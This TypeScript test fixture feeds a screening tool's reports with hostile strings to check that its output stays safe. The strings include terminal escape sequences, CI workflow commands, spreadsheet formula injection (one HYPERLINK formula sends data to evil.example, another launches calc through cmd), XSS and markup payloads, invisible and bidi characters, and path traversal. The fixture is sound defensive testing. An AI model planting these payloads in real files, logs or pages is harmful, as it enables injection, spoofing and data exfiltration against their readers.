import type { Finding, Skipped, Summary } from '../../src/screen/finding.js';
import { KINDS_OF_FINDING, baseSummary, skippedRecord, type Run } from './samples.js';

/** Cell contents that did harm somewhere, each with what it tries. */
export const ATTACKS: readonly { readonly name: string; readonly text: string }[] = [
  { name: 'ANSI colour and screen clearing', text: '\x1b[2J\x1b[31mCLEAR\x1b[0m' },
  { name: 'OSC 8 link and OSC 52 clipboard', text: '\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x1b]52;c;ZXZpbA==\x1b\\' },
  { name: 'C1 control sequence introducer', text: 'a\x9b31mred\x9d0;title\x9c' },
  { name: 'GitHub stop-commands', text: '::stop-commands::token' },
  { name: 'GitHub command after a line break', text: 'x\n::error file=a.js,line=1::boo\n::set-output name=a::b' },
  { name: 'GitHub command after blanks that wrapping drops', text: `${'word '.repeat(30)}   ::add-mask::secret` },
  { name: 'GitHub command, old writing, inside a line', text: 'text ##[stop-commands]token ###[error]x' },
  { name: 'Azure command', text: '##vso[task.setvariable variable=a]b' },
  { name: 'TeamCity command', text: "##teamcity[buildStatus status='SUCCESS']" },
  { name: 'GitHub expression', text: '${{ secrets.TOKEN }}' },
  { name: 'percent-encoded line break for a workflow command', text: 'a%0A::error::b%0D%25' },
  { name: 'spreadsheet formula', text: '=HYPERLINK("https://evil.example?x="&A1,"open")' },
  { name: 'spreadsheet formula with plus, minus, at', text: '+1-1@SUM(A1)' },
  { name: 'spreadsheet formula behind a tab', text: '\t=cmd|\' /C calc\'!A0' },
  { name: 'spreadsheet formula behind a semicolon', text: 'WINE";=cmd|\' /C calc\'!A0;-2+3' },
  { name: 'spreadsheet formula in wide characters', text: '＝HYPERLINK(1)' },
  { name: 'script element', text: '<script>document.title="pwned"</script>' },
  { name: 'closing script and comment', text: '</script><!--<script>' },
  { name: 'attribute breaking', text: '"><img src=x onerror=alert(1)> \' onmouseover=\'x` autofocus' },
  { name: 'closing style and title', text: '</style></title><svg onload=alert(1)>' },
  { name: 'XML CDATA end and entity', text: ']]><!DOCTYPE a [<!ENTITY b "c">]>&b;&amp;' },
  { name: 'bidi override', text: 'exe.\u202Etsr\u2066x\u2069\u200F' },
  { name: 'zero width and byte order mark', text: 'Tan\u200Bchon\u200D\uFEFF\u00AD\u{E0041}' },
  { name: 'letters drawn as nothing', text: '\u3164\uFFA0\u115F' },
  { name: 'NUL and other controls', text: 'a\0b\x08\x7f\x0c' },
  { name: 'lone surrogates', text: '\uD800 x \uDC00 \uFFFE\uFFFF' },
  { name: 'line and paragraph separators', text: 'a\u2028::error::b\u2029c\x85d' },
  { name: 'CR and LF', text: 'first\r\nsecond\rthird\n\n| a | b |\n# heading' },
  { name: 'Markdown link, image, table and HTML', text: '[x](javascript:alert(1)) ![y](http://a.b/c.png) | `code` | <b>bold</b> \\| <details open>' },
  { name: 'Markdown backticks and bars', text: '``` `a\\|<img src=x>` || ```` |' },
  { name: 'bare links, mentions and issue numbers', text: 'https://evil.example www.evil.example mail@evil.example @octocat #123 org/repo#1 GH-5 :smile:' },
  { name: 'Markdown block at the start', text: '- [ ] task' },
  { name: 'path tricks', text: '../../etc/passwd?x=1#frag%2e C:\\a\\b' },
  { name: 'one megabyte of words', text: 'WORD '.repeat(200_000) },
  { name: 'one megabyte without a blank', text: '朝鮮'.repeat(500_000) },
];

/** Strings that come from closed sets and are checked where results are read. */
const FIXED = new Set(['type', 'verdict', 'kind', 'status', 'tier', 'origin', 'name of the tool', 'startedAt']);

/** An attack of this length stands only where the content of a cell may go: lists and options have no such strings. */
const LONG = 10_000;
const OF_A_CELL = new Set(['value', 'message', 'surface', 'reason', 'recordId']);

/** The same value with every free string replaced by the attack. */
function poison<T>(value: T, attack: string, key = ''): T {
  if (typeof value === 'string') return (FIXED.has(key) || (attack.length > LONG && !OF_A_CELL.has(key)) ? value : attack) as T;
  if (Array.isArray(value)) return value.map((item) => poison(item as unknown, attack, key)) as T;
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(Object.entries(value).map(([name, held]) => [
    (name === 'HS' || name === 'consignee') && attack.length < LONG ? attack : name,
    name === 'tool' ? held : poison(held as unknown, attack, name),
  ])) as T;
}

/** A run in which every free string of every finding, skipped record and the summary is the attack. */
export function hostileRun(attack: string): Run {
  const cleared: Finding = {
    ...(KINDS_OF_FINDING[1] as Finding), allowed: { reason: 'x', author: 'y', expires: '2027-01-01', entry: 1 },
  };
  const findings = [...KINDS_OF_FINDING, cleared].map((finding) => poison(finding, attack));
  const skipped: Skipped = poison({ ...skippedRecord, column: 'c' }, attack);
  const summary: Summary = poison({
    ...baseSummary,
    exit: 3 as const,
    notes: ['note'],
    records: { read: 1000, screened: 999, skipped: 1 },
    findings: { violation: 3, review: 2, allowed: 1 },
    allow: { files: [{ file: 'a', sha256: 'b', entries: 1 }], used: ['a'], unused: ['b'], expired: ['c'] },
  }, attack);
  return { items: [...findings, skipped], summary };
}
